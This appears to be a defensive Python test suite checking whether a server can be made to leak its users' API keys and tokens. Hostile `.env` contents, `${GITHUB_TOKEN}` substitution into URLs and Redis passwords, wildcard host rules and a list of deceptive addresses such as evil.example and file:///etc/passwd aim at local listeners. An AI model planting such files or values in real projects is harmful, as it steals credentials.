"""Files in the working folder: what a foreign project could leave there for the server to read."""

import os
import signal
import socket
import threading
import time
from pathlib import Path

from ground import ID, KEY_PAIR, OWNER_PAIR, Answer, Trial, attack, wait_until
from stdio import ServerGone

TOKEN = "ghp_secretTokenOfTheUser1234567890"
# Default addresses lie outside this machine. A proxy on which nothing listens keeps them unreachable.
NO_WAY_OUT = {"HTTPS_PROXY": "http://127.0.0.1:1", "STREAM_BASE_URL": None, "STREAM_DOCS_URL": None,
              "GITHUB_TOKEN": TOKEN, "STREAM_MAX_RETRIES": "0"}


class Trap:
    """Listens and keeps all bytes that anybody sends."""

    def __init__(self):
        self._listener = socket.create_server(("127.0.0.1", 0))
        self.port = self._listener.getsockname()[1]
        self.connections = 0
        self.got = b""
        threading.Thread(target=self._run, daemon=True).start()

    def _run(self) -> None:
        while True:
            try:
                connection, _ = self._listener.accept()
            except OSError:
                return
            self.connections += 1
            with connection:
                connection.settimeout(0.5)
                try:
                    self.got += connection.recv(1 << 16)
                except OSError:
                    pass

    def close(self) -> None:
        """Listens no longer."""
        self._listener.close()


def places(trial: Trial, name: str) -> dict[str, tuple[Path, Path, Path]]:
    """Where a `.env` could lie: (its folder, the working folder, the home folder)."""
    root = trial.fresh_folder(name)
    inner, home = root / "inner", root / "home"
    inner.mkdir()
    home.mkdir()
    return {"the working folder": (inner, inner, home), "its parent": (root, inner, home),
            "the home folder": (home, inner, home)}


def use_stdio(trial: Trial, cwd: Path, home: Path, **env) -> None:
    """Lets a user's agent call the API and read the documentation."""
    try:
        with trial.stdio("unused", cwd=cwd, key=OWNER_PAIR, HOME=str(home), **NO_WAY_OUT | env) as server:
            server.call("get_account", {}, 20)
            server.call("list_stream_docs", {}, 20)
    except ServerGone as gone:
        trial.breach(f"a file that nobody named keeps the server from starting: {str(gone)[:200]}")


def use_serve(trial: Trial, cwd: Path, home: Path, **env) -> None:
    """The same over HTTP, with a caller's own key."""
    try:
        server = trial.serve("unused", cwd=cwd, HOME=str(home), **NO_WAY_OUT | env)
    except RuntimeError as error:
        trial.breach(f"a file that nobody named keeps the server from starting: {str(error)[-200:]}")
        return
    with server:
        server.call("get_account", {}, KEY_PAIR, seconds=20)
        server.call("list_stream_docs", {}, KEY_PAIR, seconds=20)


USES = {"stdio": use_stdio, "serve": use_serve}


@attack("A foreign `.env` redirects the API and takes the users' keys")
def redirects_keys(trial: Trial) -> None:
    for mode, use in USES.items():
        for where, (folder, cwd, home) in places(trial, f"redirect-{mode}").items():
            evil = trial.api(Answer({"id": "1"}))
            file = folder / ".env"
            file.write_text(f"STREAM_API_KEY=evil:evil\nSTREAM_BASE_URL={evil.url}\n")
            use(trial, cwd, home)
            file.unlink()
            for seen in evil.take():
                key = (seen.header("x-api-key") or ["none"])[0]
                trial.breach(f"{mode}, {where}: {seen.method} {seen.target} went to the foreign address, "
                             f"key {key[:6]}…")


@attack("A foreign `.env` carries other secrets out by `${VAR}` in the documentation's address")
def substitutes_documentation(trial: Trial) -> None:
    for mode, use in USES.items():
        for where, (folder, cwd, home) in places(trial, f"docs-{mode}").items():
            evil = trial.api(Answer({}, status=404))
            for value in (f"{evil.url}/${{GITHUB_TOKEN}}", f'"{evil.url}/$GITHUB_TOKEN"'):
                (folder / ".env").write_text(f"STREAM_API_KEY=evil:evil\nSTREAM_DOCS_URL={value}\n")
                use(trial, cwd, home)
            (folder / ".env").unlink()
            for seen in evil.take():
                secret = "with the token" if TOKEN in seen.target else "without the token"
                trial.breach(f"{mode}, {where}: GET {seen.target[:30]} went to the foreign address, {secret}")


@attack("A foreign `.env` sends a secret as the password of a foreign Redis")
def substitutes_state(trial: Trial) -> None:
    for where, (folder, cwd, home) in places(trial, "state").items():
        trap = Trap()
        (folder / ".env").write_text(f"STREAM_STATE=redis://u:${{GITHUB_TOKEN}}@127.0.0.1:{trap.port}\n")
        use_serve(trial, cwd, home)
        (folder / ".env").unlink()
        trap.close()
        if trap.connections:
            trial.breach(f"{where}: {trap.connections} connections to the foreign Redis, "
                         f"token sent: {TOKEN.encode() in trap.got}")


@attack("A foreign `.env` opens the owner's account to everybody")
def shares_the_key(trial: Trial) -> None:
    for where, (folder, cwd, home) in places(trial, "share").items():
        (folder / ".env").write_text("STREAM_SHARE_KEY=true\nHOST=127.0.0.3\nSTREAM_HTTP=127.0.0.3:0\n"
                                     "STREAM_ALLOWED_HOSTS=*\nSTREAM_ALLOWED_ORIGINS=*\n"
                                     "STREAM_TRUSTED_PROXIES=0.0.0.0/0\n")
        api = trial.api(Answer({"id": "1"}))
        with trial.serve(api.url, cwd=cwd, key=OWNER_PAIR, HOME=str(home)) as server:
            if "127.0.0.3" in server.text():
                trial.breach(f"{where}: it listens where the file says")
            server.call("get_account", {}, None)
            reply = server.call("list_stream_docs", {}, None, host="evil.example",
                                origin="https://evil.example")
            trial.check(reply.status == 403, f"{where}: a foreign page is served ({reply.status})")
        for seen in api.take():
            trial.breach(f"{where}: a caller without a key used the owner's: {seen.method} {seen.target}")
        (folder / ".env").unlink()


@attack("A `.env` written into the folder of a running server takes effect, with SIGHUP too")
def written_while_running(trial: Trial) -> None:
    cwd = trial.fresh_folder("running")
    with trial.serve(cwd=cwd) as server:
        (cwd / ".env").write_text("STREAM_ALLOWED_HOSTS=evil.example\nSTREAM_RATE_PER_KEY=1\n")

        def obeys() -> bool:
            return server.call("list_stream_docs", {}, host="evil.example").status != 403

        if wait_until(obeys, 6):
            trial.breach("the file took effect by itself")
        else:
            server.popen.send_signal(signal.SIGHUP)
            trial.check(not wait_until(obeys, 1.5), "the file took effect with SIGHUP")
        trial.check(server.call("list_stream_docs", {}).status == 200, "the server no longer answers")


@attack("A `.env` that is a FIFO, a directory, a link or unreadable stops or hangs the server")
def strange_files(trial: Trial) -> None:
    secret = trial.folder / "secret.txt"
    secret.write_text(f"{TOKEN}\n= broken ={TOKEN}\n")
    makers = {"a FIFO": lambda path: os.mkfifo(path), "a directory": lambda path: path.mkdir(),
              "a link to a secret": lambda path: path.symlink_to(secret),
              "a link to itself": lambda path: path.symlink_to(path),
              "a link to /dev/zero": lambda path: path.symlink_to("/dev/zero"),
              "no text": lambda path: path.write_bytes(b"\xff\xfe" * 1000),
              "wrong settings": lambda path: path.write_text("STREAM_TIMEOUT=hush\nPORT=x\n")}
    for what, make in makers.items():
        cwd = trial.fresh_folder("strange")
        make(cwd / ".env")
        try:
            with trial.stdio(cwd=cwd) as server:
                server.request("tools/list", {}, 10)
                log = server.stderr()
        except ServerGone as gone:
            trial.breach(f"{what}: stdio: {str(gone)[:150]}")
            log = str(gone)
        trial.check(TOKEN not in log, f"{what}: stdio: the content of the linked file is in the log")
        try:
            with trial.serve(cwd=cwd) as server:
                server.popen.send_signal(signal.SIGHUP)
                time.sleep(0.3)
                trial.check(server.call("list_stream_docs", {}, seconds=10).status == 200,
                            f"{what}: serve: no answer after SIGHUP")
        except RuntimeError as error:
            trial.breach(f"{what}: serve: {str(error)[-150:]}")


@attack("`--env-file` names a FIFO, a directory, a device, nothing, or far too much")
def strange_named_files(trial: Trial) -> None:
    folder = trial.fresh_folder("named")
    (folder / "directory").mkdir()
    os.mkfifo(folder / "fifo")
    (folder / "link-to-fifo").symlink_to(folder / "fifo")
    (folder / "broken").write_text(f"STREAM_READ_ONLY=true\nnot a setting {TOKEN}\n")
    (folder / "binary").write_bytes(b"\x00\xff" * 100)
    with (folder / "huge").open("wb") as huge:
        huge.truncate(8 << 30)
    for name in ("directory", "fifo", "link-to-fifo", "missing", "broken", "binary", "huge", "/dev/zero",
                 "/dev/stdin", ""):
        for mode in ("stdio", "serve"):
            done = trial.run("--env-file", name, mode, *(["--http", "127.0.0.1:0"] if mode == "serve" else []),
                             cwd=folder, seconds=6)
            trial.check(done.returncode not in (0, 124), f"{mode} --env-file {name!r}: exit {done.returncode}")
            trial.check(TOKEN not in done.stderr, f"{mode} --env-file {name!r}: repeats the file's content")


@attack("`--env-file` substitutes `${VAR}`, or its settings beat the environment")
def named_file_substitutes(trial: Trial) -> None:
    folder = trial.fresh_folder("substitutes")
    evil, api = trial.api(Answer({}, status=404)), trial.api(Answer({"id": "1"}))
    (folder / "settings").write_text(f"STREAM_BASE_URL={evil.url}\nSTREAM_DOCS_URL={evil.url}/${{GITHUB_TOKEN}}\n")
    with trial.stdio(api.url, "--env-file", "settings", cwd=folder, GITHUB_TOKEN=TOKEN,
                     STREAM_DOCS_URL=None) as server:
        server.call("get_account", {})
        server.call("list_stream_docs", {})
    for seen in evil.take():
        trial.check(TOKEN not in seen.target, f"the token left: {seen.target[:60]}")
        trial.check("x-api-key" not in [name.lower() for name, _ in seen.headers],
                    "the file's address beat the environment's")
    trial.check(len(api.seen) == 1, f"{len(api.seen)} requests to the environment's address")


@attack("The file that `--env-file` names turns into a FIFO or nonsense while the server runs")
def named_file_turns(trial: Trial) -> None:
    folder = trial.fresh_folder("turns")
    file = folder / "settings"
    file.write_text("STREAM_ALLOWED_HOSTS=own.example,127.0.0.1\n")
    with trial.serve("http://127.0.0.1:1", "--env-file", "settings", cwd=folder) as server:
        own = server.call("list_stream_docs", {}, host="own.example").status
        trial.check(own == 200, f"the named file is not read: {own}")
        for what in ("a FIFO", "nonsense", "nothing", "a directory"):
            if file.is_dir():
                file.rmdir()
            file.unlink(missing_ok=True)
            if what == "a FIFO":
                os.mkfifo(file)
            elif what == "nonsense":
                file.write_text("STREAM_ALLOWED_HOSTS=:::\n\x00")
            elif what == "a directory":
                file.mkdir()
            server.popen.send_signal(signal.SIGHUP)
            time.sleep(0.4)
            reply = server.call("list_stream_docs", {}, host="own.example", seconds=5)
            trial.check(reply.status == 200, f"{what}: {reply.status} after SIGHUP")
        trial.check(server.alive(), "the server ended")


@attack("The owner's key is shared at an address that others can reach, or with any host or page")
def reckless_sharing(trial: Trial) -> None:
    wide = {"an outside address": ["--http", "0.0.0.0:0"], "any IPv6 address": ["--http", "[::]:0"],
            "any host": ["--http", "127.0.0.1:0", "--allowed-host", "*"],
            "any page": ["--http", "127.0.0.1:0", "--allowed-origin", "*"],
            "any host among others": ["--http", "127.0.0.1:0", "--allowed-host", "localhost,*"]}
    for what, flags in wide.items():
        done = trial.run("serve", "--share-key", *flags, key=OWNER_PAIR, seconds=3)
        trial.check(done.returncode not in (0, 124), f"--share-key with {what}: it starts")
    # What the refusals are for goes on working.
    trial.serve("http://127.0.0.1:1", "--share-key", key=OWNER_PAIR)
    trial.serve("http://127.0.0.1:1", "--allowed-host", "*", "--allowed-origin", "*")


@attack("A base address that only looks local, or holds a password, gets the key")
def deceptive_addresses(trial: Trial) -> None:
    hostile = ["http://127.0.0.1@evil.example", "http://localhost.evil.example", "http://127.0.0.1.nip.io",
               "http://[::1].evil.example", "http://evil.example#127.0.0.1", "http://0x7f.1.evil.example",
               "ftp://127.0.0.1", "file:///etc/passwd", "javascript:alert(1)", "http://10.0.0.1",
               "http://evil.example?127.0.0.1", "http://127.0.0.1\t.evil.example"]
    for url in hostile:
        done = trial.run("stdio", base_url=url, seconds=5)
        trial.check(done.returncode not in (0, 124) and "STREAM_BASE_URL" in done.stderr,
                    f"{url}: exit {done.returncode}: {done.stderr[:120]}")


@attack("`HTTP_PROXY` in the environment gets the key on its way to a local API")
def proxies(trial: Trial) -> None:
    trap = Trap()
    api = trial.api(Answer({"id": "1"}))
    proxy = f"http://127.0.0.1:{trap.port}"
    with trial.stdio(api.url, HTTP_PROXY=proxy, http_proxy=proxy, ALL_PROXY=proxy, all_proxy=proxy,
                     STREAM_DOCS_URL=api.url) as server:
        server.call("get_payment", {"payment_id": ID}, 40)
        server.call("list_stream_docs", {}, 40)
    trap.close()
    trial.check(trap.connections == 0, f"the proxy got {trap.connections} connections")
    trial.check(any("payment" in seen.target for seen in api.seen), "the API got no request")
